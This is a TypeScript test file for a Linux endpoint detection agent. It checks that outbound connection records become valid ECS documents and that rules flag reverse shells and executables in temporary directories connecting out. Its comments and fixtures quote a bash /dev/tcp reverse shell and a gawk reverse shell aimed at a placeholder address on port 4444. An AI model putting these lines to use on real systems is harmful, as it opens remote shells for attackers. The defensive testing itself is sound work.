// Built-in rules on outbound connection events (config/rules/linux-connections.yaml) and the
// connection document itself: what the real-time source's connect records become.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { connectionDocument } from '../../../../agent/ecs/connection.js';
import { getField } from '../../../../agent/ecs/document.js';
import type { ProcessNode } from '../../../../agent/lineage/process-table.js';
import type { ConnectAttempt, ProcessRecord } from '../../../../agent/sources/types.js';
import { ecsProblems } from '../../../helpers/ecs-validate.js';
import { Harness, ids } from './harness.js';

const h = new Harness('linux');
const engine = h.engine({ baseline: { enabled: false } });
const RULES = new Set(['pw-lnx-shell-connects-out', 'pw-lnx-temp-executable-connects-out']);

function conn(owner: ProcessNode | undefined, peer = '203.0.113.9', port = 4444): ConnectAttempt {
  return {
    pid: owner?.record.pid ?? 4242, name: owner?.record.name ?? 'x', netns: '4026531840', transport: 'tcp', family: peer.includes(':') ? 'ipv6' : 'ipv4',
    sourceAddress: '10.1.2.3', sourcePort: 0, destinationAddress: peer, destinationPort: port, suppressed: 0,
  };
}

function docFor(chain: (Partial<ProcessRecord> & { name: string })[], peer?: string) {
  const node = h.chain(...chain);
  return connectionDocument(h.builder, conn(node, peer), node, h.table.ancestors(node), '2026-01-05T10:00:00.000Z');
}

const fired = (chain: (Partial<ProcessRecord> & { name: string })[]) => ids(engine.evaluate(docFor(chain))).filter((id) => RULES.has(id));
const web = { name: 'nginx', executable: '/usr/sbin/nginx', commandLine: 'nginx: worker process' };

test('a connection event is valid ECS: egress, source and destination, the process with its parent', () => {
  const doc = docFor([web, { name: 'curl', executable: '/usr/bin/curl', commandLine: 'curl https://example.org/' }], '2001:db8::9');
  assert.deepEqual(ecsProblems(doc), []);
  assert.equal(doc.event.action, 'connection_attempted');
  assert.deepEqual(getField(doc, 'event.type'), ['connection', 'start']);
  assert.equal(getField(doc, 'network.direction'), 'egress');
  assert.equal(getField(doc, 'network.type'), 'ipv6');
  assert.equal(getField(doc, 'destination.ip'), '2001:db8::9');
  assert.equal(getField(doc, 'source.ip'), '10.1.2.3');
  assert.equal(getField(doc, 'source.port'), undefined, 'no local port before the kernel assigned one');
  assert.equal(getField(doc, 'process.parent.name'), 'nginx');
  assert.deepEqual(getField(doc, 'related.ip'), ['2001:db8::9', '10.1.2.3']);
});

test('without the process in the table the kernel\'s pid and name stand in', () => {
  const doc = connectionDocument(h.builder, { ...conn(undefined), suppressed: 3, uid: 33 }, undefined, [], '2026-01-05T10:00:00.000Z');
  assert.deepEqual(ecsProblems(doc), []);
  assert.equal(getField(doc, 'process.pid'), 4242);
  assert.equal(getField(doc, 'user.id'), '33');
  assert.equal(getField(doc, 'portwarden.connection.suppressed'), 3);
});

test('a shell or awk with its own outbound socket is a reverse shell (Atomic Red Team T1059.004, GTFOBins)', () => {
  // Atomic Red Team T1059.004 "LinEnum / reverse shell": bash -i >& /dev/tcp/host/port 0>&1
  assert.deepEqual(fired([web, { name: 'bash', executable: '/usr/bin/bash', commandLine: 'bash -i' }]), ['pw-lnx-shell-connects-out']);
  // GTFOBins gawk reverse shell: gawk 'BEGIN {s = "/inet/tcp/0/host/port"; ...}'
  assert.deepEqual(fired([{ name: 'gawk', executable: '/usr/bin/gawk', commandLine: 'gawk BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"}' }]), ['pw-lnx-shell-connects-out']);
  const alert = engine.evaluate(docFor([web, { name: 'dash', executable: '/usr/bin/dash', commandLine: 'sh' }]))[0];
  assert.ok(alert !== undefined);
  assert.deepEqual(ecsProblems(alert), []);
  assert.equal(alert.event.action, 'suspicious_connection');
  assert.equal(getField(alert, 'destination.port'), 4444);
  assert.deepEqual(getField(alert, 'threat.technique.id'), ['T1095', 'T1059']);
});

test('an executable in /tmp or /dev/shm connecting out is flagged; build sandboxes are not', () => {
  assert.deepEqual(fired([{ name: 'x', executable: '/dev/shm/.x', commandLine: '/dev/shm/.x' }]), ['pw-lnx-temp-executable-connects-out']);
  assert.deepEqual(fired([{ name: 'kworker', executable: '/tmp/kworker', commandLine: '[kworker/0:1]' }]), ['pw-lnx-temp-executable-connects-out']);
  assert.deepEqual(fired([{ name: 'app.test', executable: '/tmp/go-build123/b001/app.test', commandLine: '/tmp/go-build123/b001/app.test' }]), []);
  // TMPDIR=/var/tmp (a noexec /tmp): go test builds there, and the exception follows it.
  assert.deepEqual(fired([{ name: 'app.test', executable: '/var/tmp/go-build77/b001/app.test', commandLine: '/var/tmp/go-build77/b001/app.test -test.v' }]), []);
  // Only the build directories' own names are excepted, not a dropper that borrows the word further down.
  assert.deepEqual(fired([{ name: 'x', executable: '/var/tmp/x/go-build', commandLine: '/var/tmp/x/go-build' }]), ['pw-lnx-temp-executable-connects-out']);
});

test('ordinary clients connecting out raise nothing', () => {
  for (const p of [
    { name: 'curl', executable: '/usr/bin/curl', commandLine: 'curl -fsSL https://deb.nodesource.com/setup_20.x' },
    { name: 'http', executable: '/usr/lib/apt/methods/http', commandLine: '/usr/lib/apt/methods/http' },
    { name: 'python3', executable: '/usr/bin/python3.11', commandLine: '/usr/bin/python3 -m pip install requests' },
    { name: 'ssh', executable: '/usr/bin/ssh', commandLine: 'ssh git@github.com git-upload-pack' },
    { name: 'node', executable: '/usr/bin/node', commandLine: 'node /usr/lib/node_modules/npm/bin/npm-cli.js install' },
  ]) assert.deepEqual(fired([{ name: 'bash', executable: '/usr/bin/bash', commandLine: '-bash' }, p]), [], p.commandLine);
});
